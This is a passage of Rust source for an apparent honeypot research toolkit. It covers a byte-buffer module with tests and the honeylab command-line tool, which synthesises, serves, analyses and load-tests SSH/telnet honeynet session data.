        assert!(self.remaining() >= 1, "get_u8 past end of buffer");
        let b = self.chunk()[0];
        self.advance(1);
        b
    }

    fn get_u32(&mut self) -> u32 {
        assert!(self.remaining() >= 4, "get_u32 past end of buffer");
        let c = self.chunk();
        let v = u32::from_be_bytes([c[0], c[1], c[2], c[3]]);
        self.advance(4);
        v
    }

    fn copy_to_bytes(&mut self, len: usize) -> Bytes {
        assert!(self.remaining() >= len, "copy_to_bytes past end of buffer");
        let out = Bytes::from(self.chunk()[..len].to_vec());
        self.advance(len);
        out
    }
}

/// Write-side trait.
pub trait BufMut {
    fn put_slice(&mut self, src: &[u8]);

    fn put_u8(&mut self, v: u8) {
        self.put_slice(&[v]);
    }

    fn put_u32(&mut self, v: u32) {
        self.put_slice(&v.to_be_bytes());
    }
}

/// Immutable byte buffer (here: an owned `Vec<u8>` with a start offset).
#[derive(Clone, Default, PartialEq, Eq, Hash)]
pub struct Bytes {
    data: Vec<u8>,
    start: usize,
}

impl Bytes {
    pub const fn new() -> Self {
        Self {
            data: Vec::new(),
            start: 0,
        }
    }

    pub fn from_static(bytes: &'static [u8]) -> Self {
        Self {
            data: bytes.to_vec(),
            start: 0,
        }
    }

    pub fn len(&self) -> usize {
        self.data.len() - self.start
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    pub fn as_slice(&self) -> &[u8] {
        &self.data[self.start..]
    }

    pub fn to_vec(&self) -> Vec<u8> {
        self.as_slice().to_vec()
    }

    /// Splits off and returns the first `at` bytes, leaving the rest.
    pub fn split_to(&mut self, at: usize) -> Bytes {
        assert!(at <= self.len(), "split_to out of bounds");
        let head = Bytes::from(self.as_slice()[..at].to_vec());
        self.start += at;
        head
    }
}

impl Buf for Bytes {
    fn remaining(&self) -> usize {
        self.len()
    }

    fn chunk(&self) -> &[u8] {
        self.as_slice()
    }

    fn advance(&mut self, cnt: usize) {
        assert!(cnt <= self.len(), "advance out of bounds");
        self.start += cnt;
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(data: Vec<u8>) -> Self {
        Self { data, start: 0 }
    }
}

impl From<&[u8]> for Bytes {
    fn from(bytes: &[u8]) -> Self {
        Self::from(bytes.to_vec())
    }
}

impl Deref for Bytes {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "b\"")?;
        for &b in self.as_slice() {
            for esc in std::ascii::escape_default(b) {
                write!(f, "{}", esc as char)?;
            }
        }
        write!(f, "\"")
    }
}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        self.as_slice() == other
    }
}

impl PartialEq<&[u8]> for Bytes {
    fn eq(&self, other: &&[u8]) -> bool {
        self.as_slice() == *other
    }
}

/// Growable byte buffer with a read cursor at the front.
#[derive(Clone, Default, PartialEq, Eq)]
pub struct BytesMut {
    data: Vec<u8>,
    start: usize,
}

impl BytesMut {
    pub const fn new() -> Self {
        Self {
            data: Vec::new(),
            start: 0,
        }
    }

    pub fn with_capacity(capacity: usize) -> Self {
        Self {
            data: Vec::with_capacity(capacity),
            start: 0,
        }
    }

    pub fn len(&self) -> usize {
        self.data.len() - self.start
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    pub fn as_slice(&self) -> &[u8] {
        &self.data[self.start..]
    }

    pub fn extend_from_slice(&mut self, src: &[u8]) {
        self.data.extend_from_slice(src);
    }

    /// Splits off and returns the first `at` bytes, leaving the rest.
    pub fn split_to(&mut self, at: usize) -> BytesMut {
        assert!(at <= self.len(), "split_to out of bounds");
        let head = BytesMut {
            data: self.as_slice()[..at].to_vec(),
            start: 0,
        };
        self.start += at;
        head
    }

    /// Splits off the entire contents, leaving this buffer empty.
    pub fn split(&mut self) -> BytesMut {
        let len = self.len();
        self.split_to(len)
    }

    /// Freezes into an immutable [`Bytes`].
    pub fn freeze(self) -> Bytes {
        Bytes {
            data: self.data,
            start: self.start,
        }
    }
}

impl Buf for BytesMut {
    fn remaining(&self) -> usize {
        self.len()
    }

    fn chunk(&self) -> &[u8] {
        self.as_slice()
    }

    fn advance(&mut self, cnt: usize) {
        assert!(cnt <= self.len(), "advance out of bounds");
        self.start += cnt;
    }
}

impl BufMut for BytesMut {
    fn put_slice(&mut self, src: &[u8]) {
        self.data.extend_from_slice(src);
    }
}

impl From<&[u8]> for BytesMut {
    fn from(bytes: &[u8]) -> Self {
        Self {
            data: bytes.to_vec(),
            start: 0,
        }
    }
}

impl Deref for BytesMut {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl DerefMut for BytesMut {
    fn deref_mut(&mut self) -> &mut [u8] {
        let start = self.start;
        &mut self.data[start..]
    }
}

impl fmt::Debug for BytesMut {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(&Bytes::from(self.as_slice().to_vec()), f)
    }
}

#[cfg(test)]
mod tests {
    use super::{Buf, BufMut, Bytes, BytesMut};

    #[test]
    fn put_then_get_roundtrip() {
        let mut b = BytesMut::with_capacity(16);
        b.put_u32(0xDEAD_BEEF);
        b.put_u8(7);
        b.put_slice(b"hello");
        assert_eq!(b.len(), 10);
        let mut frozen = b.freeze();
        assert_eq!(frozen.get_u32(), 0xDEAD_BEEF);
        assert_eq!(frozen.get_u8(), 7);
        assert_eq!(&frozen[..], b"hello");
    }

    #[test]
    fn split_advance_freeze() {
        let mut b = BytesMut::from(&b"0123456789"[..]);
        let head = b.split_to(4);
        assert_eq!(&head[..], b"0123");
        assert_eq!(&b[..], b"456789");
        b.advance(2);
        assert_eq!(&b[..], b"6789");
        let rest = b.split();
        assert!(b.is_empty());
        assert_eq!(&rest.freeze()[..], b"6789");
    }

    #[test]
    fn bytes_split_and_copy() {
        let mut b = Bytes::from(b"abcdef".to_vec());
        let head = b.split_to(2);
        assert_eq!(&head[..], b"ab");
        let mid = b.copy_to_bytes(2);
        assert_eq!(&mid[..], b"cd");
        assert_eq!(b.remaining(), 2);
        assert_eq!(b.to_vec(), b"ef");
    }

    #[test]
    fn index_mut_after_advance() {
        let mut b = BytesMut::from(&b"xyz"[..]);
        b.advance(1);
        b[0] ^= 1;
        assert_eq!(&b[..], &[b'y' ^ 1, b'z']);
    }

    #[test]
    fn static_and_empty() {
        assert!(Bytes::new().is_empty());
        let s = Bytes::from_static(b"SSH-2.0");
        assert_eq!(&s[..], b"SSH-2.0");
    }
}
