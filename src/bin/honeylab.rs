//! The honeylab command-line tool.
//!
//! ```text
//! honeylab generate --scale 4000 --seed 42 --out honeynet.json
//!     Generate a synthetic honeynet dataset and write it as a
//!     Cowrie-format JSON-lines event log.
//!
//! honeylab generate --scale 500 --out store.hsdb --out-format sessiondb
//!     Same dataset, spilled straight into a sharded columnar sessiondb
//!     store — sessions stream to disk during generation, so memory stays
//!     bounded at any scale.
//!
//! honeylab analyze honeynet.json
//! honeylab analyze store.hsdb --report taxonomy --report passwords
//!     Run the paper's analysis pipeline. The input format is
//!     auto-detected (sessiondb by magic bytes / store manifest, anything
//!     else parses as a Cowrie JSON log); every selected report is
//!     computed in one streaming pass, so sessiondb input is analysed
//!     without materializing the dataset. `--report` is repeatable;
//!     omitting it runs every report.
//!
//! honeylab serve --ssh-port 2222 --telnet-port 2323 --store live.hsdb
//!     Serve the honeypot over real TCP sockets: a sharded accept loop
//!     feeds a worker pool driving the sans-IO SSH/telnet state machines.
//!     Completed sessions stream through the collector into a sessiondb
//!     store. Ctrl-C (or closing stdin) drains in-flight sessions and
//!     seals the store.
//!
//! honeylab classify
//!     Read command lines from stdin, print the Table 1 category of each.
//!
//! honeylab table1
//!     Print the classifier's rule set (label + pattern).
//! ```

use honeylab::botnet::{generate_dataset_into, FaultProfile};
use honeylab::core::{report, AnalysisBuilder, AnalysisReport, ReportKind, SessionSource};
use honeylab::honeypot::to_cowrie_log;
use honeylab::prelude::*;
use honeylab::serve::barrage::{self, BarrageConfig, BarrageReport, LoadMode};
use honeylab::serve::{signal, Engine, ServeConfig, Server};
use honeylab::sessiondb::{
    is_sessiondb_path, needs_recovery, recover, recovery_preview, FsyncPolicy, Store, StoreWriter,
};
use honeylab::sshwire::{ClientScript, SshClient};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::io::{BufRead, Read, Write};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let code = match args.first().map(String::as_str) {
        Some("generate") => cmd_generate(&args[1..]),
        Some("analyze") => cmd_analyze(&args[1..]),
        Some("serve") => cmd_serve(&args[1..]),
        Some("recover") => cmd_recover(&args[1..]),
        Some("probe") => cmd_probe(&args[1..]),
        Some("barrage") => cmd_barrage(&args[1..]),
        Some("classify") => cmd_classify(),
        Some("table1") => cmd_table1(),
        Some("api-sample") => cmd_api_sample(&args[1..]),
        _ => {
            eprintln!(
                "usage: honeylab <generate|analyze|serve|recover|probe|barrage|classify|table1> [options]\n\
                 \n\
                 generate --scale N --seed S --out FILE   synthesize a honeynet dataset\n\
                 \x20        [--out-format cowrie|sessiondb] cowrie: JSON-lines log (default);\n\
                 \x20                                        sessiondb: sharded columnar store, bounded memory\n\
                 \x20        [--downtime F]                  inject sensor outages (fraction of sensor-time)\n\
                 \x20        [--flush-fail F]                inject collector flush failures (per-write rate)\n\
                 \x20        [--corrupt F]                   corrupt the emitted log (per-line byte-flip rate; cowrie only)\n\
                 analyze PATH                             run the paper's analysis on a Cowrie log\n\
                 \x20                                        or sessiondb store (format auto-detected)\n\
                 \x20        [--report NAME]...              run only the named reports (repeatable; default all):\n\
                 \x20                                        taxonomy categories passwords probes downloads mdrfckr\n\
                 \x20        [--format text|json]            output format (json = honeylab-api v1 document\n\
                 \x20                                        on stdout; text is the default)\n\
                 \x20        [--analysis-threads N]          analysis worker threads (default: CPU count;\n\
                 \x20                                        1 = serial; output identical at any N)\n\
                 serve                                    serve the honeypot over live TCP sockets\n\
                 \x20        [--ssh-port N] [--telnet-port N] listeners (0 = ephemeral; default ssh 2222)\n\
                 \x20        [--http-port N] [--http-workers N] observability HTTP plane: /api/stats,\n\
                 \x20                                        /api/sessions/recent, /api/credentials/top,\n\
                 \x20                                        /api/health, /events (SSE); off by default\n\
                 \x20        [--recent-tail N]               sessions kept for /api/sessions/recent (default 64)\n\
                 \x20        [--bind ADDR] [--store DIR]     bind address; spill sessions to a sessiondb store\n\
                 \x20        [--max-conns N] [--per-ip N]    admission limits (shed at accept time)\n\
                 \x20        [--workers N]                   worker shards (default: CPU count)\n\
                 \x20        [--engine reactor|polled]       shard engine: epoll reactor (default) or the\n\
                 \x20                                        legacy polling loop (bench baseline)\n\
                 \x20        [--idle-secs N] [--session-secs N] [--drain-secs N] [--stats-secs N]\n\
                 \x20        [--fsync-every N]               WAL fsync cadence: 1 = every record (default),\n\
                 \x20                                        N>1 = every N records, 0 = never (OS page cache only)\n\
                 \x20        [--rows-per-segment N]          sessions per sealed store segment\n\
                 \x20        [--chaos-conn-panic F] [--chaos-shard-panic F] [--chaos-flush-fail F] [--chaos-seed N]\n\
                 \x20                                        seeded fault injection (testing only)\n\
                 recover STORE [--dry-run]                replay a crashed store's WAL into a sealed\n\
                 \x20                                        segment and verify every CRC; --dry-run only\n\
                 \x20                                        reports what recovery would do\n\
                 probe ADDR [--count N]                   drive N scripted SSH sessions against a\n\
                 \x20                                        honeylab serve instance (smoke-test client)\n\
                 barrage ADDR                             replay a botnet-archetype session mix against\n\
                 \x20                                        a live serve instance and report throughput,\n\
                 \x20                                        latency quantiles, and shed rate\n\
                 \x20        [--sessions N] [--seed S]       schedule size and seed (deterministic replay)\n\
                 \x20        [--rate R]                      open loop: target sessions/sec, Poisson arrivals\n\
                 \x20        [--concurrency N] [--think-ms M] closed loop (default): N concurrent clients\n\
                 \x20        [--workers N] [--deadline-secs N] [--max-in-flight N]\n\
                 \x20        [--format text|json]            json = honeylab-api v1 barrage_report on stdout\n\
                 classify                                 classify stdin command lines (Table 1)\n\
                 table1                                   print the classifier rule set\n\
                 api-sample [KIND]                        print the canonical honeylab-api v1 sample\n\
                 \x20                                        document for KIND (no KIND: list kinds);\n\
                 \x20                                        these back the docs/api_v1 golden set"
            );
            2
        }
    };
    std::process::exit(code);
}

fn flag(args: &[String], name: &str) -> Option<String> {
    args.iter()
        .position(|a| a == name)
        .and_then(|i| args.get(i + 1))
        .cloned()
}

fn cmd_generate(args: &[String]) -> i32 {
    let scale: u64 = flag(args, "--scale")
        .and_then(|s| s.parse().ok())
        .unwrap_or(8_000);
    let seed: u64 = flag(args, "--seed")
        .and_then(|s| s.parse().ok())
        .unwrap_or(42);
    let format = flag(args, "--out-format").unwrap_or_else(|| "cowrie".to_string());
    let out = flag(args, "--out").unwrap_or_else(|| match format.as_str() {
        "sessiondb" => "honeynet.hsdb".to_string(),
        _ => "honeynet.json".to_string(),
    });
    let downtime: f64 = flag(args, "--downtime")
        .and_then(|s| s.parse().ok())
        .unwrap_or(0.0);
    let flush_fail: f64 = flag(args, "--flush-fail")
        .and_then(|s| s.parse().ok())
        .unwrap_or(0.0);
    let corrupt: f64 = flag(args, "--corrupt")
        .and_then(|s| s.parse().ok())
        .unwrap_or(0.0);
    let mut cfg = DriverConfig::default_scale(seed);
    cfg.session_scale = scale;
    if downtime > 0.0 {
        let mut f = FaultProfile::degraded();
        f.sensor_downtime = downtime;
        f.flush_failure_rate = 0.0;
        cfg.faults = f;
    }
    if flush_fail > 0.0 {
        cfg.faults.flush_failure_rate = flush_fail;
        cfg.faults.queue_capacity = Some(64);
    }
    eprintln!("generating 33 months at 1:{scale} (seed {seed})…");
    match format.as_str() {
        "cowrie" => {
            let ds = generate_dataset(&cfg);
            report_degraded(&ds.faults, ds.sessions.len() as u64);
            eprintln!(
                "{} sessions; writing Cowrie-format log to {out}…",
                ds.sessions.len()
            );
            let mut log = to_cowrie_log(&ds.sessions);
            if corrupt > 0.0 {
                let (l, n) = corrupt_log(&log, corrupt, seed);
                eprintln!(
                    "corrupted {n} of {} lines (--corrupt {corrupt})",
                    l.lines().count()
                );
                log = l;
            }
            match std::fs::File::create(&out).and_then(|mut f| f.write_all(log.as_bytes())) {
                Ok(()) => {
                    eprintln!("wrote {} bytes ({} lines)", log.len(), log.lines().count());
                    0
                }
                Err(e) => {
                    eprintln!("error writing {out}: {e}");
                    1
                }
            }
        }
        "sessiondb" => {
            if corrupt > 0.0 {
                eprintln!("warning: --corrupt applies to the cowrie format only, ignoring");
            }
            // Sessions spill to the store through the collector as they
            // are generated; nothing is ever materialized in memory.
            let writer = match StoreWriter::create(&out) {
                Ok(w) => w,
                Err(e) => {
                    eprintln!("error creating store {out}: {e}");
                    return 1;
                }
            };
            let ds = match generate_dataset_into(&cfg, Box::new(writer)) {
                Ok(ds) => ds,
                Err(e) => {
                    eprintln!("error generating into {out}: {e}");
                    return 1;
                }
            };
            report_degraded(&ds.faults, ds.faults.ingest.accepted);
            match Store::open(&out) {
                Ok(store) => {
                    let s = store.summary();
                    eprintln!(
                        "wrote sessiondb store {out}: {} sessions in {} segments",
                        s.rows, s.segments
                    );
                    0
                }
                Err(e) => {
                    eprintln!("error reopening store {out}: {e}");
                    1
                }
            }
        }
        other => {
            eprintln!("unknown --out-format '{other}' (expected cowrie or sessiondb)");
            2
        }
    }
}

fn report_degraded(f: &honeylab::botnet::FaultReport, recorded: u64) {
    if f.connection_failures + f.ingest.dropped + f.ingest.quarantined > 0 {
        eprintln!(
            "degraded run: {} attempted = {} recorded + {} connection failures + {} dropped + {} quarantined",
            f.attempted, recorded, f.connection_failures, f.ingest.dropped, f.ingest.quarantined
        );
    }
}

/// Seeded per-line corruption: with probability `rate` a line gets one
/// byte overwritten at a random position — the kind of damage a crashed
/// logger or a torn sector leaves behind.
fn corrupt_log(log: &str, rate: f64, seed: u64) -> (String, usize) {
    let mut rng = StdRng::seed_from_u64(seed ^ 0xc0_44_u64);
    let mut corrupted = 0usize;
    let lines: Vec<String> = log
        .lines()
        .map(|line| {
            if !line.is_empty() && rng.random::<f64>() < rate {
                corrupted += 1;
                let mut bytes = line.as_bytes().to_vec();
                let i = rng.random_range(0..bytes.len());
                bytes[i] = b'#';
                String::from_utf8_lossy(&bytes).into_owned()
            } else {
                line.to_string()
            }
        })
        .collect();
    (lines.join("\n") + "\n", corrupted)
}

fn report_names() -> String {
    let names: Vec<&str> = ReportKind::ALL.iter().map(|k| k.name()).collect();
    names.join(", ")
}

/// Deprecated per-report flags from the pre-builder CLI; accepted (with a
/// warning) but hidden from the usage text. Removal window: these aliases
/// are frozen with honeylab-api v1 and will be removed together with the
/// first v2 release (see README "Deprecations").
const DEPRECATED_REPORT_FLAGS: [&str; 6] = [
    "--taxonomy",
    "--categories",
    "--passwords",
    "--probes",
    "--downloads",
    "--mdrfckr",
];

/// How `analyze` prints its result.
#[derive(Clone, Copy, PartialEq, Eq)]
enum OutputFormat {
    Text,
    Json,
}

fn cmd_analyze(args: &[String]) -> i32 {
    let mut path: Option<&str> = None;
    let mut format = OutputFormat::Text;
    let mut reports: Vec<ReportKind> = Vec::new();
    let mut threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(4);
    let select = |reports: &mut Vec<ReportKind>, k: ReportKind| {
        if !reports.contains(&k) {
            reports.push(k);
        }
    };
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        if arg == "--report" {
            i += 1;
            let Some(name) = args.get(i) else {
                eprintln!("--report needs a value (one of: {})", report_names());
                return 2;
            };
            match ReportKind::parse(name) {
                Some(k) => select(&mut reports, k),
                None => {
                    eprintln!(
                        "unknown report '{name}' (expected one of: {})",
                        report_names()
                    );
                    return 2;
                }
            }
        } else if arg == "--analysis-threads" {
            i += 1;
            match args.get(i).and_then(|s| s.parse::<usize>().ok()) {
                Some(n) if n >= 1 => threads = n,
                _ => {
                    eprintln!("--analysis-threads needs a positive integer");
                    return 2;
                }
            }
        } else if arg == "--format" {
            i += 1;
            match args.get(i).map(String::as_str) {
                Some("text") => format = OutputFormat::Text,
                Some("json") => format = OutputFormat::Json,
                other => {
                    eprintln!(
                        "--format needs 'text' or 'json' (got {})",
                        other.unwrap_or("nothing")
                    );
                    return 2;
                }
            }
        } else if DEPRECATED_REPORT_FLAGS.contains(&arg) {
            let name = &arg[2..];
            eprintln!(
                "warning: {arg} is deprecated and will be removed with honeylab-api v2; \
                 use --report {name}"
            );
            let k = ReportKind::parse(name).expect("alias names mirror report names");
            select(&mut reports, k);
        } else if !arg.starts_with("--") && path.is_none() {
            path = Some(arg);
        } else {
            eprintln!("unknown analyze option '{arg}'");
            return 2;
        }
        i += 1;
    }
    let Some(path) = path else {
        eprintln!("usage: honeylab analyze <cowrie-log.json | store.hsdb> [--report NAME]...");
        return 2;
    };
    if is_sessiondb_path(path) {
        analyze_sessiondb(path, &reports, threads, format)
    } else {
        analyze_cowrie(path, &reports, threads, format)
    }
}

fn analyze_sessiondb(
    path: &str,
    reports: &[ReportKind],
    threads: usize,
    format: OutputFormat,
) -> i32 {
    // Read-only preview: `analyze` may run against a store a live
    // `serve` is still writing, so it never mutates — it only points at
    // `honeylab recover` when sealed segments don't tell the whole story.
    if needs_recovery(path) {
        match recovery_preview(path) {
            Ok(preview) => {
                for line in preview.render().lines() {
                    eprintln!("note: {line}");
                }
                eprintln!(
                    "note: store has unrecovered crash state (analysis below covers sealed \
                     segments only); run `honeylab recover {path}` if no server is writing to it"
                );
            }
            Err(e) => eprintln!("warning: could not preview crash state: {e}"),
        }
    }
    let store = match Store::open(path) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("error opening store {path}: {e}");
            return 1;
        }
    };
    let summary = store.summary();
    eprintln!(
        "sessiondb store: {} sessions in {} segments",
        summary.rows, summary.segments
    );
    // One parallel pass decodes and CRC-checks every block up front, so
    // the streaming analysis pass below can trust the store.
    match store.par_scan(
        threads,
        |acc: &mut u64, batch| *acc += batch.len() as u64,
        |a, b| a + b,
    ) {
        Ok(validated) => eprintln!("validated {validated} sessions"),
        Err(e) => {
            eprintln!("error scanning {path}: {e}");
            return 1;
        }
    }
    // Every selected report shares one out-of-core scan; memory stays
    // bounded by one decoded segment regardless of store size.
    let result = AnalysisBuilder::new(SessionSource::Store(&store))
        .reports(reports.iter().copied())
        .threads(threads)
        .run();
    match result {
        Ok(r) => {
            emit_analysis(&r, format);
            0
        }
        Err(e) => {
            eprintln!("error scanning {path}: {e}");
            1
        }
    }
}

fn analyze_cowrie(path: &str, reports: &[ReportKind], threads: usize, format: OutputFormat) -> i32 {
    let log = match std::fs::read_to_string(path) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("error reading {path}: {e}");
            return 1;
        }
    };
    // Lossy import: a real multi-year Cowrie deployment accumulates torn
    // writes and crash-truncated files; the builder recovers every
    // parseable session and reports what was skipped rather than aborting
    // on line one.
    let result = AnalysisBuilder::new(SessionSource::CowrieLog(&log))
        .reports(reports.iter().copied())
        .threads(threads)
        .run();
    let r = match result {
        Ok(r) => r,
        Err(e) => {
            eprintln!("error parsing {path}: {e}");
            return 1;
        }
    };
    if let Some(import) = &r.import {
        for err in import.errors.iter().take(5) {
            eprintln!(
                "warning: line {}: {} ({})",
                err.line, err.message, err.snippet
            );
        }
        if import.errors.len() > 5 {
            eprintln!(
                "warning: … {} more unparseable lines",
                import.errors.len() - 5
            );
        }
        if !import.errors.is_empty() {
            eprintln!(
                "recovered {} sessions from {} lines ({} unparseable)",
                import.recovered,
                import.lines_total,
                import.errors.len()
            );
        }
    }
    eprintln!("parsed {} sessions", r.sessions);
    emit_analysis(&r, format);
    0
}

/// Prints the analysis result in the selected format. JSON goes to
/// stdout as one honeylab-api v1 document (diagnostics stay on stderr),
/// so `analyze --format json | jq .data.taxonomy` just works.
fn emit_analysis(r: &AnalysisReport, format: OutputFormat) {
    match format {
        OutputFormat::Text => render_analysis(r),
        OutputFormat::Json => print!("{}", honeylab::core::api::analysis_json(r).pretty()),
    }
}

/// Prints whichever reports the builder computed; unselected sections are
/// `None` and skipped.
fn render_analysis(r: &AnalysisReport) {
    // §3.3 taxonomy.
    if let Some(stats) = &r.taxonomy {
        print!("{}", report::render_dataset_stats(stats, 1));
    }

    // Table 1 classification.
    if let (Some(coverage), Some(cats)) = (r.coverage, &r.categories) {
        println!(
            "\nTable 1 coverage: {:.2}% of command sessions classified",
            coverage * 100.0
        );
        if r.budget_exhaustions > 0 {
            eprintln!(
                "warning: {} regex step-budget exhaustion(s) during classification — \
                 some pathological command texts were not fully matched",
                r.budget_exhaustions
            );
        }
        println!("\ntop command categories:");
        for (label, n) in cats.iter().take(15) {
            println!("  {label:<26} {n}");
        }
    }

    // Passwords.
    if let Some(top) = &r.passwords {
        println!("\ntop accepted passwords:");
        for (i, pw) in top.passwords.iter().enumerate() {
            let total: u64 = top.by_month.values().map(|v| v[i]).sum();
            println!("  #{:<2} {pw:<24} {total}", i + 1);
        }
    }

    // Cowrie-default fingerprinting.
    if let Some(probes) = &r.probes {
        let phil: u64 = probes.phil_success.values().sum();
        if phil > 0 {
            println!(
                "\nhoneypot fingerprinting: {phil} 'phil' logins from {} IPs ({:.0}% commandless) — \
                 attackers are probing for Cowrie defaults",
                probes.phil_unique_ips,
                probes.phil_no_command_frac * 100.0
            );
        }
    }

    // Downloads.
    if let (Some(events), Some(st)) = (&r.downloads, &r.storage) {
        if !events.is_empty() {
            println!(
                "\ndownloads: {} sessions, {} client IPs, {} storage hosts ({:.0}% host != client)",
                st.download_sessions,
                st.unique_download_clients,
                st.unique_storage_ips,
                st.different_ip_frac * 100.0
            );
        }
    }

    // mdrfckr check.
    if let Some(tl) = &r.mdrfckr {
        let total: u64 = tl.daily.values().map(|(n, _)| n).sum();
        if total > 0 {
            println!(
                "\nmdrfckr activity: {total} sessions over {} days — see the paper's §9 for the actor profile",
                tl.daily.len()
            );
        }
    }
}

/// Parses an optional numeric flag; a malformed value is a usage error.
fn parse_flag<T: std::str::FromStr>(args: &[String], name: &str) -> Result<Option<T>, i32> {
    match flag(args, name) {
        None => Ok(None),
        Some(v) => v.parse().map(Some).map_err(|_| {
            eprintln!("invalid value for {name}: '{v}'");
            2
        }),
    }
}

fn serve_config(args: &[String]) -> Result<ServeConfig, i32> {
    let ssh_port: Option<u16> = parse_flag(args, "--ssh-port")?;
    let telnet_port: Option<u16> = parse_flag(args, "--telnet-port")?;
    let mut cfg = ServeConfig {
        // With no listener flags at all, default to SSH on the
        // conventional unprivileged honeypot port.
        ssh_port: ssh_port.or_else(|| telnet_port.is_none().then_some(2222)),
        telnet_port,
        store_dir: flag(args, "--store").map(PathBuf::from),
        ..ServeConfig::default()
    };
    if let Some(bind) = flag(args, "--bind") {
        cfg.bind = bind.parse().map_err(|_| {
            eprintln!("invalid --bind address '{bind}'");
            2
        })?;
    }
    if let Some(n) = parse_flag(args, "--max-conns")? {
        cfg.max_connections = n;
    }
    if let Some(n) = parse_flag(args, "--per-ip")? {
        cfg.per_ip_limit = n;
    }
    if let Some(n) = parse_flag(args, "--workers")? {
        cfg.workers = n;
    }
    if let Some(s) = flag(args, "--engine") {
        cfg.engine = Engine::parse(&s).ok_or_else(|| {
            eprintln!("invalid --engine '{s}' (expected reactor or polled)");
            2
        })?;
    }
    cfg.http_port = parse_flag(args, "--http-port")?;
    if let Some(n) = parse_flag(args, "--http-workers")? {
        cfg.http_workers = n;
    }
    if let Some(n) = parse_flag(args, "--recent-tail")? {
        cfg.recent_tail = n;
    }
    if let Some(s) = parse_flag::<u64>(args, "--idle-secs")? {
        cfg.idle_timeout = Duration::from_secs(s);
    }
    if let Some(s) = parse_flag::<u64>(args, "--session-secs")? {
        cfg.session_timeout = Duration::from_secs(s);
    }
    if let Some(s) = parse_flag::<u64>(args, "--drain-secs")? {
        cfg.drain_timeout = Duration::from_secs(s);
    }
    if let Some(s) = parse_flag::<u64>(args, "--stats-secs")? {
        // 0 disables the stats thread entirely.
        cfg.stats_interval = (s > 0).then(|| Duration::from_secs(s));
    }
    if let Some(n) = parse_flag::<u32>(args, "--fsync-every")? {
        // 0 = never fsync: bounded loss (the OS page-cache window) in
        // exchange for zero fsync stalls on the hot path.
        cfg.fsync = FsyncPolicy::every(n);
    }
    if let Some(n) = parse_flag::<usize>(args, "--rows-per-segment")? {
        cfg.rows_per_segment = n;
    }
    if let Some(f) = parse_flag::<f64>(args, "--chaos-conn-panic")? {
        cfg.chaos.conn_panic_rate = f;
    }
    if let Some(f) = parse_flag::<f64>(args, "--chaos-shard-panic")? {
        cfg.chaos.shard_panic_rate = f;
    }
    if let Some(f) = parse_flag::<f64>(args, "--chaos-flush-fail")? {
        cfg.collector.flush_failure_rate = f;
    }
    if let Some(s) = parse_flag::<u64>(args, "--chaos-seed")? {
        cfg.chaos.seed = s;
    }
    if cfg.chaos.enabled() || cfg.collector.flush_failure_rate > 0.0 {
        eprintln!(
            "chaos mode: conn-panic {} shard-panic {} flush-fail {} seed {}",
            cfg.chaos.conn_panic_rate,
            cfg.chaos.shard_panic_rate,
            cfg.collector.flush_failure_rate,
            cfg.chaos.seed
        );
    }
    // The builder's invariants, applied to the flag-assembled config:
    // bad combinations die here, before any socket is bound.
    if let Err(e) = cfg.validate() {
        eprintln!("invalid serve configuration: {e}");
        return Err(2);
    }
    Ok(cfg)
}

fn cmd_serve(args: &[String]) -> i32 {
    let cfg = match serve_config(args) {
        Ok(c) => c,
        Err(code) => return code,
    };
    let store_dir = cfg.store_dir.clone();
    signal::install();
    let handle = match Server::start(cfg) {
        Ok(h) => h,
        Err(e) => {
            eprintln!("error starting server: {e}");
            return 1;
        }
    };
    // Opening the store runs crash recovery; say what it found before
    // the first session lands on top of it.
    if let Some(report) = handle.recovery() {
        if !report.is_clean() {
            for line in report.render().lines() {
                eprintln!("recovery: {line}");
            }
        }
    }
    let addrs = handle.addrs();
    if let Some(a) = addrs.ssh {
        eprintln!("listening ssh on {a}");
    }
    if let Some(a) = addrs.telnet {
        eprintln!("listening telnet on {a}");
    }
    if let Some(a) = addrs.http {
        eprintln!("listening http on {a} (/api/stats, /api/health, /events …)");
    }
    eprintln!("press Ctrl-C (or close stdin) to stop");

    // A second shutdown path besides SIGINT: supervising processes (and
    // the concurrency smoke test) close our stdin to request a drain.
    let stdin_closed = Arc::new(AtomicBool::new(false));
    {
        let stdin_closed = Arc::clone(&stdin_closed);
        std::thread::Builder::new()
            .name("stdin-watch".into())
            .spawn(move || {
                let mut buf = [0u8; 256];
                let mut stdin = std::io::stdin();
                loop {
                    match stdin.read(&mut buf) {
                        Ok(0) => break,
                        Ok(_) => continue,
                        Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                        Err(_) => break,
                    }
                }
                stdin_closed.store(true, Ordering::Relaxed);
            })
            .expect("spawn stdin watcher");
    }

    while !signal::interrupted() && !stdin_closed.load(Ordering::Relaxed) {
        std::thread::sleep(Duration::from_millis(50));
    }
    eprintln!("shutting down: draining in-flight sessions…");
    match handle.join() {
        Ok(report) => {
            // One shared renderer (ServeReport::render) — the same
            // counters the HTTP plane served as honeylab-api v1.
            for line in report.render().lines() {
                eprintln!("{line}");
            }
            if let Some(dir) = store_dir {
                eprintln!("sealed sessiondb store {}", dir.display());
            }
            0
        }
        Err(e) => {
            eprintln!("error during shutdown: {e}");
            1
        }
    }
}

/// `honeylab recover <store> [--dry-run]`: replay a crashed store's WAL
/// into a sealed segment (or report what a replay would do), then verify
/// the whole store's CRCs.
fn cmd_recover(args: &[String]) -> i32 {
